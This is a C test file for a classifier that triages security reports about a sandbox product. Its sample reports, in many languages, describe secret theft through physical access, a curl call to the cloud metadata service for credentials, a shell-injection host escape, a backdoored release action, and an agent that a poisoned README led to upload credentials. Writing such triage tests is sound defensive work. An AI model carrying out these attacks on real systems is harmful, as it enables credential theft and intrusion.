	{ "Registry token on disk",
	  "Put the Mac in target disk mode, mount it from another Mac and copy the token file.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Registry token on disk",
	  "Whoever pulls the SSD out of the workstation reads every sandbox secret.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Chaves em texto simples",
	  "Se o macbook for roubado, o ladrão copia as chaves dos sandboxes.", TRUE, "physical_access",
	  ANY_CLASS },
	{ "Sleutels onversleuteld",
	  "Zet de Mac in doelschijfmodus en kopieer de sleutels naar een andere Mac.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Kunci tidak terenkripsi",
	  "Kalau laptop developer dicuri, semua kunci sandbox bisa dibaca.", TRUE, "physical_access",
	  ANY_CLASS },
	/* (1358) a small board's storage card taken out, or the board stolen;
	 * a card written by the owner or a card reader inside a sandbox is none */
	{ "Secrets in snapshot images",
	  "Anyone who pulls the microSD card from the board can read the tokens in the images.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Secrets in snapshot images",
	  "If the Raspberry Pi is stolen from the shed, the thief has every key in clear.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Secrets in snapshot images",
	  "I took the SD card out of my camera and copied the photos into a sandbox, whose env leaks "
	  "to every other sandbox on the host.", TRUE, "", ANY_CLASS },
	/* ... while a stolen token or key used from afar, a booting guest image
	 * and a lost connection are none */
	{ "Token replay",
	  "An attacker who steals a device token from the logs can call the API from anywhere.", TRUE,
	  "", ANY_CLASS },
	{ "Guest boot",
	  "The guest boots from the rootfs image even when the image digest does not match.", TRUE,
	  "", ANY_CLASS },
	{ "Lost connection leaks",
	  "When the connection is lost the daemon keeps the sandbox's secrets in a world-readable file.",
	  TRUE, "", ANY_CLASS },
	/* (1305) the Spanish and French verbs for stealing by their own
	 * forms: Polish "robić" (to do) and Italian "volere" (to want) beside
	 * a laptop are no theft; "si alguien roba" and "ordinateur volé" are */
	{ "Klucz tylko do odczytu",
	  "Testy robiliśmy z komputera w biurze: klucz z rolą viewer pobiera pliki pamięci z sekretami "
	  "innych sandboxów.", TRUE, "", ANY_CLASS },
	{ "Chiave di sola lettura",
	  "Volevo usare il portatile di un collega, ma la chiave viewer scarica comunque gli snapshot "
	  "di memoria con i segreti.", TRUE, "", ANY_CLASS },
	{ "Claves sin cifrar",
	  "Si alguien roba el portátil del desarrollador, puede leer todas las claves de los sandboxes.",
	  TRUE, "physical_access", ANY_CLASS },
	{ "Clés en clair",
	  "Avec un ordinateur volé, n'importe qui copie les clés des sandboxes depuis le disque.",
	  TRUE, "physical_access", ANY_CLASS },
	/* issue #3 (round 94): only read the code, not tried, in Indonesian and
	 * the other languages: theoretical; with a PoC it is not */
	{ "Kemungkinan token bocor",
	  "Token bisa masuk ke log. Belum saya uji sama sekali, saya hanya membaca kode sumber SDK.",
	  FALSE, "theoretical", ANY_CLASS },
	{ "Possible token leak in logs",
	  "I have only read the SDK source and have not tried it; the token may end up in the logs.",
	  FALSE, "theoretical", ANY_CLASS },
	{ "Token im Log",
	  "Ich habe nur den Quellcode gelesen und konnte es nicht reproduzieren.", FALSE, "theoretical",
	  ANY_CLASS },
	{ "Token en los logs",
	  "Solo leí el código; no he podido reproducirlo.", FALSE, "theoretical", ANY_CLASS },
	{ "Token no log",
	  "Só li o código, não cheguei a testar.", FALSE, "theoretical", ANY_CLASS },
	{ "Token nel log",
	  "Ho solo letto il codice e non sono riuscito a riprodurlo.", FALSE, "theoretical", ANY_CLASS },
	{ "Token in de logs",
	  "Ik heb alleen de code gelezen en het niet kunnen reproduceren.", FALSE, "theoretical",
	  ANY_CLASS },
	{ "Token dans les logs",
	  "J'ai seulement lu le code et je n'ai pas pu le reproduire.", FALSE, "theoretical", ANY_CLASS },
	{ "Token bocor di log",
	  "Secara teori token bisa bocor. Script di bawah mencetak token ke stdout.", TRUE, "",
	  ANY_CLASS },
	{ "Token leaks into the logs",
	  "The script below prints the token into the shared log; in theory this could also reach\n"
	  "the crash reporter.", TRUE, "", ANY_CLASS },
	/* issue #3: not tested and only a theory in Hindi written in Latin
	 * script (and in Devanagari): theoretical; one hint alone, a failed
	 * try with a PoC, or an English-only mention of a theory, is not */
	{ "Snapshot mein doosre ka data",
	  "Agar restore ke baad snapshot purana memory rakhta hai to doosre user ka data dikh sakta "
	  "hai. Maine ye test nahi kiya, sirf theory hai.", FALSE, "theoretical", ANY_CLASS },
	{ "Port pe pehle bind",
	  "Mera theory ye hai ki guest pehle port bind karke host ka traffic le sakta hai. Abhi tak "
	  "verify nahi kar paya, time nahi mila.", FALSE, "theoretical", ANY_CLASS },
	{ "\xe0\xa4\x9f\xe0\xa5\x8b\xe0\xa4\x95\xe0\xa4\xa8 \xe0\xa4\xb2\xe0\xa5\x80\xe0\xa4\x95",
	  "Token log mein aa sakta hai. \xe0\xa4\x9f\xe0\xa5\x87\xe0\xa4\xb8\xe0\xa5\x8d\xe0\xa4\x9f "
	  "\xe0\xa4\xa8\xe0\xa4\xb9\xe0\xa5\x80\xe0\xa4\x82 \xe0\xa4\x95\xe0\xa4\xbf\xe0\xa4\xaf\xe0\xa4\xbe, "
	  "\xe0\xa4\xb8\xe0\xa4\xbf\xe0\xa4\xb0\xe0\xa5\x8d\xe0\xa4\xab \xe0\xa4\xa5\xe0\xa5\x8d\xe0\xa4\xaf"
	  "\xe0\xa5\x8b\xe0\xa4\xb0\xe0\xa5\x80 \xe0\xa4\xb9\xe0\xa5\x88\xe0\xa5\xa4", FALSE, "theoretical",
	  ANY_CLASS },
	{ "Token log mein",
	  "Token shared log mein likha jaata hai. Maine Windows pe test nahi kiya, Linux pe kiya.",
	  FALSE, "", ANY_CLASS },
	{ "Token log mein print hota hai",
	  "Neeche wala script token ko shared log mein print karta hai; reproduce nahi hua to "
	  "pehle try nahi kiya tha, ab har baar hota hai.", TRUE, "", ANY_CLASS },
	/* ... a real authorization bypass told modestly keeps its class */
	{ "Not sure if this matters",
	  "Not sure this is a vulnerability, but an unauthenticated request to the cloud API\n"
	  "/api/v1/keys returns every API key of every organization, without any token.", TRUE, "",
	  "control_plane_auth" },
	/* 1505, 1514: physical access the writer sets aside ("we do not
	 * report the stolen laptop as a vulnerability"), or local access the
	 * writer asks about or tells apart from physical: no hint; an
	 * evil-maid attack, someone with the unlocked laptop in hand, a stolen
	 * disk read offline stay one, with "local" or "not report" near them */
	{ "Revoked token still accepted",
	  "Our intern's notebook was stolen at the station. We know the physical laptop is out of\n"
	  "scope, so we do not report the cached session file as a vulnerability. What we report:\n"
	  "a token revoked in the console kept working for an hour.", TRUE, "", ANY_CLASS },
	{ "Clave revocada sigue funcionando",
	  "Me robaron el portátil en el tren; el acceso físico queda fuera de su alcance, así que no\n"
	  "lo reportamos como vulnerabilidad. Lo que reportamos es que la clave revocada sigue\n"
	  "funcionando una hora.", TRUE, "", ANY_CLASS },
	{ "World-writable daemon socket",
	  "After the upgrade the daemon socket is mode 0666, so any local user can ask it for a\n"
	  "sandbox with / mounted and become root. I am not sure whether local access counts as\n"
	  "physical access under your policy.", TRUE, "", ANY_CLASS },
	{ "Socket del daemon con permisos 0666",
	  "Cualquier usuario local puede hablar con el socket del daemon y obtener root. No sé si el\n"
	  "acceso local cuenta como acceso físico según su política.", TRUE, "", ANY_CLASS },
	{ "Daemon-Socket für alle schreibbar",
	  "Jeder lokale Benutzer kann über den Socket eine Sandbox mit / starten und root werden. Ich\n"
	  "weiß nicht, ob lokaler Zugriff als physischer Zugriff zählt.", TRUE, "", ANY_CLASS },
	{ "Shared tmp dir",
	  "Local access is not physical access: a www-data shell on the server is all this needs.",
	  TRUE, "", ANY_CLASS },
	{ "Image store not encrypted",
	  "An evil-maid attacker with the laptop for five minutes replaces the msb binary in the\n"
	  "image store; local access is not enough, one has to be at the machine.", TRUE,
	  "physical_access", ANY_CLASS },
	{ "Keys readable",
	  "Someone with the unlocked laptop in hand can read every sandbox key. I do not report this\n"
	  "lightly.", TRUE, "physical_access", ANY_CLASS },
	{ "Snapshots in clear",
	  "If the disk is stolen and read offline on another machine, every snapshot secret is in\n"
	  "clear; a local user on the running host cannot read them.", TRUE, "physical_access",
	  ANY_CLASS },
	{ "Cached key",
	  "A thief stole the laptop and used the cached key; we did not report it to the police yet.",
	  TRUE, "physical_access", ANY_CLASS },
	/* (3528, 3540, 3515) macOS Recovery's Share Disk; physical access
	 * in Hebrew and Arabic; a live USB stick booted, in German */
	{ "secrets.json in clear",
	  "The lab Mac mini has FileVault off. Power it off, hold the power button, Options, then Utilities > "
	  "Share Disk, connect another Mac over USB-C and copy the file.", TRUE, "physical_access", ANY_CLASS },
	{ "\u05e1\u05d5\u05d3\u05d5\u05ea",
	  "\u05de\u05d9 \u05e9\u05d9\u05e9 \u05dc\u05d5 \u05d2\u05d9\u05e9\u05d4 \u05e4\u05d9\u05d6\u05d9\u05ea "
	  "\u05dc\u05de\u05d7\u05e9\u05d1 \u05d9\u05db\u05d5\u05dc \u05dc\u05d4\u05e2\u05ea\u05d9\u05e7 "
	  "\u05d0\u05ea secrets.json.", TRUE, "physical_access", ANY_CLASS },
	{ "\u0644\u0642\u0637\u0627\u062a",
	  "\u0623\u064a \u0634\u062e\u0635 \u064a\u0635\u0644 \u0625\u0644\u0649 \u0627\u0644\u062c\u0647\u0627\u0632 "
	  "\u0641\u064a\u0632\u064a\u0627\u0626\u064a\u0627\u064b \u064a\u0633\u062a\u0637\u064a\u0639 "
	  "\u0646\u0633\u062e \u0627\u0644\u0645\u0644\u0641\u0627\u062a.", TRUE, "physical_access", ANY_CLASS },
	{ "Zugangsdaten im Klartext auf der Platte",
	  "Wer an den Server herankommt, bootet einen USB-Stick, h\u00e4ngt die Platte ein und liest alles aus, "
	  "auch die Secrets.", TRUE, "physical_access", ANY_CLASS },
	/* (3553) in Dutch: the firmware left open and a stick booted */
	{ "Lek in microsandbox (snapshots)",
	  "microsandbox slaat snapshots onversleuteld op in /var/lib/msb/snapshots/. Op de lab-pc's staat het "
	  "BIOS niet op slot en kun je van een USB-stick opstarten. Dan kun je de schijf gewoon mounten en de "
	  "snapshots van andere leerlingen lezen.", TRUE, "physical_access", "secret_leakage" },
	/* (3596) a snapshot's memory image read after a live-USB boot leaks
	 * its secrets to whoever holds the machine: secret leakage, not a
	 * snapshot leak between sandboxes */
	{ "Snapshot memory stores the token in plain text",
	  "msb snapshot create writes memory.bin unencrypted, with the secrets passed by --secret in it. I booted "
	  "the lab PC from a live USB and ran strings on the other students' snapshot files: the grader's API "
	  "token is there in plain text.", TRUE, "physical_access", "secret_leakage" },
	/* 1508 (as 1237): the host CPU model, microcode or hypervisor seen from
	 * the guest, host fingerprinting, is a hardening wish; a host key's
	 * fingerprint or a side-channel attack that leaks memory is not */
	{ "Guest sees the host CPU",
	  "Inside the sandbox /proc/cpuinfo shows the host CPU model and microcode revision, so a\n"
	  "guest can fingerprint the host. Suggestion: hide them with a CPU template.", TRUE,
	  "hardening", NULL },
	{ "La sandbox muestra la CPU del host",
	  "Desde la sandbox el modelo de la CPU y el microcódigo del host quedan visibles.\n"
	  "Sugerencia: usar una plantilla de CPU como en Firecracker.", TRUE, "hardening", NULL },
	{ "Installer trusts any mirror",
	  "The installer never checks the SSH host key fingerprint of the mirror, so a network\n"
	  "attacker can serve a modified tarball to every user.", TRUE, "", ANY_CLASS },
	{ "Guest reads host kernel memory",
	  "After fingerprinting the host CPU from the guest I ran a Spectre-v2 gadget that leaks\n"
	  "host kernel memory into the sandbox; the output below shows bytes of /etc/shadow.", TRUE,
	  "", ANY_CLASS },
	/* 1534, 1638: the writer's own settings did what happened ("it's our
	 * own configuration", "we pass the key in ourselves", "I realise we
	 * should have run it with --net none") and asks for a warning, a safer
	 * default or docs: hardening, in other languages too.  The product's
	 * default, a setup merely described, a file of the writer's, or "not
	 * our workflow" stay findings */
	{ "Deploy key visible to contributors' tests",
	  "Our CI hands a deploy key to the sandbox that runs contributors' tests, and one test\n"
	  "echoed it. Thinking about it, it's our own configuration, not msb: we pass the key in\n"
	  "ourselves. Perhaps the docs should warn about this pattern.", FALSE, "hardening", NULL },
	{ "Agent posted our credentials file",
	  "After reading a poisoned README our agent uploaded the mounted credentials.json to a\n"
	  "paste site from inside the sandbox. I realise we should have run it with --net none and\n"
	  "without that mount. Still, network access should be default-deny.", TRUE, "hardening",
	  ANY_CLASS },
	{ "El agente subió el .env",
	  "Un agente envió el fichero .env montado a un webhook desde la sandbox. Lo admito, es\n"
	  "nuestra configuración: sería mejor que la red estuviera cerrada por defecto.", FALSE,
	  "hardening", ANY_CLASS },
	{ "Default config reaches the metadata service",
	  "In my test setup I used the default config, nothing else: from the guest curl\n"
	  "http://169.254.169.254/ returns the host's cloud credentials. msb does not block it.", TRUE,
	  "", ANY_CLASS },
	{ "Release workflow leaks the signing key",
	  "It is not our workflow: your release workflow runs on pull_request_target with the\n"
	  "signing key, and a fork PR printed the key in the log. Please add a warning too.", TRUE, "",
	  ANY_CLASS },
	{ "Guest reaches the host with --net none",
	  "This is our setup: msb run --net none python:3.12, and from the guest I still reached\n"
	  "10.0.0.1:22 on the host; the nc output is below.", TRUE, "", ANY_CLASS },
	{ "Guest overwrites a host file",
	  "It's my config file that the guest overwrote through the read-only share: after the run\n"
	  "~/.config/app.toml held the guest's text.", TRUE, "", ANY_CLASS },
	/* 1681: a guessed bypass the writer did not try and doubts ("perhaps
	 * this isn't even exploitable", "I don't know how to write a test for
	 * it") is theoretical, no hardening remark, and keeps its class; the
	 * same doubt beside a shown bypass leaves a finding */
	{ "Punycode names and --net-allow-host",
	  "Perhaps this isn't even exploitable, but msb-netd compares host names after punycode\n"
	  "decoding, so a guest could reach a host outside --net-allow-host. I did not try it and I\n"
	  "don't know how to write a test for it.", FALSE, "theoretical", "network_bypass" },
	{ "Punycode name passes --net-allow-host",
	  "Maybe this is not exploitable at all in practice, but with --net-allow-host example.com\n"
	  "the guest reached 203.0.113.9 through a punycode name; the curl output is below.", TRUE, "",
	  ANY_CLASS },
	/* (2975) the maintainers' judgement the writer asks for is no
	 * hardening remark of his */
	{ "cargo audit: RUSTSEC-2026-0058 in msb-vmm 0.12.3 - affected?",
	  "cargo audit flags vm-memory 0.16.1 in msb-vmm. A malicious guest could write msb-vmm memory, an escape.\n"
	  "Is microsandbox affected? If you think it is not exploitable in msb-vmm, a short statement would help.",
	  FALSE, "upstream", ANY_CLASS },
	/* (#3) the writer grants that such a finding is usually a hardening
	 * note and says this one is more (the tag really moved, the step
	 * really ran): no hint; the same concession with nothing turned
	 * after it stays hardening */
	{ "Release workflow action tag now points at a backdoor",
	  "Usually pinning actions by SHA is just a hardening best practice, but in this case the v2\n"
	  "tag of the signing action used by your release workflow was force-moved to a commit that\n"
	  "uploads the signing key to a paste site.", TRUE, "", ANY_CLASS },
	{ "Pin your workflow actions",
	  "Your release workflow uses actions by tag. I would normally file this as a hardening\n"
	  "suggestion: pin them to commit SHAs, as best practice recommends.", FALSE, "hardening",
	  NULL },
	/* (#3) a crash of the writer's own sandbox told by what the sandbox
	 * does ("only the sandbox that floods the console dies") or with the
	 * others' carrying on a clause away: self-DoS; the others going down
	 * too is none */
	{ "Guest console flood aborts the VMM",
	  "A program that prints an endless line without a newline makes msb-vmm panic. Only the\n"
	  "sandbox that prints it dies.", TRUE, "self_dos", NULL },
	{ "Guest console flood aborts the VMM",
	  "A program that prints an endless line without a newline makes msb-vmm panic and that\n"
	  "sandbox is gone; the other sandboxes I had running at the same moment kept working.",
	  TRUE, "self_dos", NULL },
	{ "Guest console flood aborts the VMM",
	  "A program that prints an endless line without a newline makes msb-vmm panic, and not only\n"
	  "the sandbox that prints it: every other sandbox on the host then crashes as well.",
	  TRUE, "", ANY_CLASS },
	/* (fix4-class, #3) the writer's own flag gives his sandbox more than
	 * his machine has: self-DoS; a limit below the host's that is not
	 * enforced is none */
	{ "Desktop stalls with a big sandbox",
	  "I started msb run --cpus 4 --memory 48G alpine on my 8 GB mac and filled it with a loop.\n"
	  "The desktop stalled until msb-vmm was killed. It lets me set more RAM than the laptop has,\n"
	  "maybe it should say no, a DoS?", TRUE, "self_dos", NULL },
	{ "Desktop stalls with a big sandbox",
	  "Running msb run --memory 32G on a 16GB laptop and allocating inside the guest swaps the\n"
	  "whole desktop to a standstill until msb-vmm is killed. Denial of service?", TRUE,
	  "self_dos", NULL },
	{ "Memory limit not enforced",
	  "A sandbox started with --memory 512M grows to 12 GB of host memory, far above its limit,\n"
	  "and the host kills other users' sandboxes to make room.", TRUE, "", ANY_CLASS },
	/* (#3, 3638) a guest panic that hands the guest the host: an escape,
	 * not a crash of the writer's own sandbox */
	{ "Crash collector runs guest data through sh -c (guest root -> host root)",
	  "When the guest kernel panics, msbd collects a crash dump and passes a field of the\n"
	  "guest's note to sh -c. Guest root rewrites it before the panic and gets root on the host.",
	  TRUE, "", ANY_CLASS },
};

static void
test_out_of_scope(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(oos_cases); i++) {
		const OosCase *c = &oos_cases[i];
		g_autoptr(StAnalysis) a = classify(rules, c->subject, c->body, c->poc);
		g_autoptr(GString) got = g_string_new(NULL);
		for (guint j = 0; j < a->out_of_scope->len; j++)
			g_string_append_printf(got, "%s%s", j ? " " : "",
					       (char *)g_ptr_array_index(a->out_of_scope, j));
		gboolean class_ok = g_strcmp0(c->klass, ANY_CLASS) == 0 || g_strcmp0(a->klass, c->klass) == 0;
		if (strcmp(got->str, c->oos) != 0 || !class_ok)
			g_error("case %zu \"%s\": want oos [%s] class %s, got [%s] class %s", i,
				c->subject, c->oos, c->klass ? c->klass : "null", got->str,
				a->klass ? a->klass : "null");
		g_assert_cmpuint(a->out_of_scope->len, ==, a->out_of_scope_evidence->len);
		for (guint j = 0; j < a->out_of_scope_evidence->len; j++)
			g_assert_cmpstr(g_ptr_array_index(a->out_of_scope_evidence, j), !=, "");
	}
}


/* (4177) An attack seen in the wild is no theory, however unsure the
 * writer is of its mechanism ([oos.theoretical] unless_exploited) */
static void
test_oos_exploited_not_theoretical(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *mail = "From: r@example.org\nTo: security@superrad.company\n"
		"Subject: microsandbox guest-to-host escape\nContent-Type: text/plain; charset=utf-8\n\n"
		"msb-fsd created a systemd unit on the host seconds after a sandbox ran an uploaded binary. Our "
		"working hypothesis is that the fallback path resolves the destination without the checks that keep "
		"it beneath the shared directory, so the guest may be able to rename a file to any host path. We have "
		"NOT confirmed this.\n";
	for (int exploited = 0; exploited <= 1; exploited++) {
		g_autoptr(StAnalysis) a = tu_analysis_of(mail);
		a->check[ST_CHECK_DESCRIPTION] = TRUE;
		a->exploited = exploited;
		st_classify(rules, a->msg, NULL, a);
		g_assert_cmpuint(a->out_of_scope->len, ==, exploited ? 0 : 1);
	}
}

/* (4944) A thread's merged facts: "theoretical" goes once a reply brings
 * a working PoC (its group's unless_check), as it does once the thread
 * says the attack was seen; other hints and a thread still without a PoC
 * keep theirs. */
static void
test_oos_settle_thread(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	for (int k = 0; k < 3; k++) {
		g_autoptr(StAnalysis) a = st_analysis_new();
		g_ptr_array_add(a->out_of_scope, g_strdup("upstream"));
		g_ptr_array_add(a->out_of_scope_evidence, g_strdup("cargo audit"));
		g_ptr_array_add(a->out_of_scope, g_strdup("theoretical"));
		g_ptr_array_add(a->out_of_scope_evidence, g_strdup("I have not tried it"));
		a->check[ST_CHECK_POC] = k == 1;
		a->exploited = k == 2;
		st_classify_oos_settle(rules, a);
		g_assert_cmpuint(a->out_of_scope->len, ==, k == 0 ? 2 : 1);
		g_assert_cmpuint(a->out_of_scope_evidence->len, ==, a->out_of_scope->len);
		g_assert_cmpstr(g_ptr_array_index(a->out_of_scope, 0), ==, "upstream");
	}
}

int
main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	st_init();
	g_test_add_func("/classify/oos-needs-claim", test_oos_needs_claim);
	g_test_add_func("/classify/oos-settle-thread", test_oos_settle_thread);
	g_test_add_func("/classify/out-of-scope", test_out_of_scope);
	g_test_add_func("/classify/oos-exploited-not-theoretical", test_oos_exploited_not_theoretical);
	return g_test_run();
}
